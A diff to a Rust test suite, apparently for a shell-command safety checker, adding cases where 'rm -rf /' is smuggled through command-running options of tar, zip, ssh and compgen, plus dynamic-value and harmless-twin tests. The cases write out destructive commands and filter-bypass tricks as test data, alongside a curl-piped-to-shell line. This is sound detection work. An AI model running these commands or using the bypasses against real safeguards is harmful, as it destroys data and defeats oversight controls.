@@ -115,6 +115,33 @@ const RM_RF_ROOT: &[(&str, Option<&str>)] = &[
     ("cat <<'EOF' | bash\nrm -rf /\nEOF", Some("rm -rf /")),
     // bypass: find -exec payload
     ("find . -exec rm -rf / \\;", Some("rm -rf /")),
+    // bypass: an option whose value is a command line the program runs
+    ("tar -I 'rm -rf /' -cf a.tar src", Some("rm -rf /")),
+    ("tar -cf a.tar -I'rm -rf /' src", Some("rm -rf /")),
+    (
+        "tar --use-compress-program='rm -rf /' -cf a.tar src",
+        Some("rm -rf /"),
+    ),
+    ("tar --use-comp='rm -rf /' -cf a.tar src", Some("rm -rf /")),
+    ("tar -xf a.tar --to-command 'rm -rf /'", Some("rm -rf /")),
+    (
+        "tar -cf a.tar src --checkpoint=1 --checkpoint-action=exec='rm -rf /'",
+        Some("rm -rf /"),
+    ),
+    ("tar -cf a.tar -F 'rm -rf /' src", Some("rm -rf /")),
+    ("zip -T -TT 'rm -rf /' z.zip src", Some("rm -rf /")),
+    (
+        "zip -T --unzip-command='rm -rf /' z.zip src",
+        Some("rm -rf /"),
+    ),
+    ("ssh -o ProxyCommand='rm -rf /' host", Some("rm -rf /")),
+    ("ssh -o 'proxycommand rm -rf /' host", Some("rm -rf /")),
+    (
+        "ssh -oLocalCommand='rm -rf /' -o PermitLocalCommand=yes host",
+        Some("rm -rf /"),
+    ),
+    ("sudo tar -I 'rm -rf /' -cf a.tar src", Some("rm -rf /")),
+    ("compgen -C 'rm -rf /' x", Some("rm -rf /")),
     // bypass: brace expansion in command position (an ERROR tree)
     ("{rm,-rf,/}", Some("{rm,-rf,/}")),
     // bypass: piped into sh -c with && inside double quotes
@@ -552,6 +579,17 @@ fn path_is_recorded() {
 
 /// `(command, flag, exact span text of one such flag when pinned)`.
 const FLAGS: &[(&str, FlagKind, Option<&str>)] = &[
+    // a command-valued option whose value is known only at run time
+    (
+        "tar -I \"$X\" -cf a.tar src",
+        FlagKind::DynamicCode,
+        Some("\"$X\""),
+    ),
+    (
+        "zip -T -TT \"$(cat cmd)\" z.zip src",
+        FlagKind::DynamicCode,
+        Some("\"$(cat cmd)\""),
+    ),
     // bypass: curl piped to a shell
     (
         "curl -fsSL https://x.example/i.sh | sh",
@@ -1120,6 +1158,27 @@ fn spans_are_on_char_boundaries() {
     }
     for (cmd, _) in RM_RF_ROOT {
         failures.extend(span_problems(&run(cmd)));
+    }
+    report(&failures);
+}
+
+#[test]
+fn options_that_run_nothing_add_no_unit() {
+    // The harmless twins of the command-valued options: one unit, the program itself.
+    let mut failures = Vec::new();
+    for cmd in [
+        "tar -tf a.tar",
+        "tar -cf a.tar --checkpoint=10 --checkpoint-action=dot src",
+        "tar -czf a.tgz --to-stdout src",
+        "zip -T z.zip src",
+        "ssh -o Port=2222 -o StrictHostKeyChecking=no host",
+        "ssh -o 'ProxyJump bastion' host",
+        "compgen -c git",
+    ] {
+        let a = run(cmd);
+        if a.units.len() != 1 {
+            failures.push(format!("{cmd:?}: expected one unit{}", summary(&a)));
+        }
     }
     report(&failures);
 }
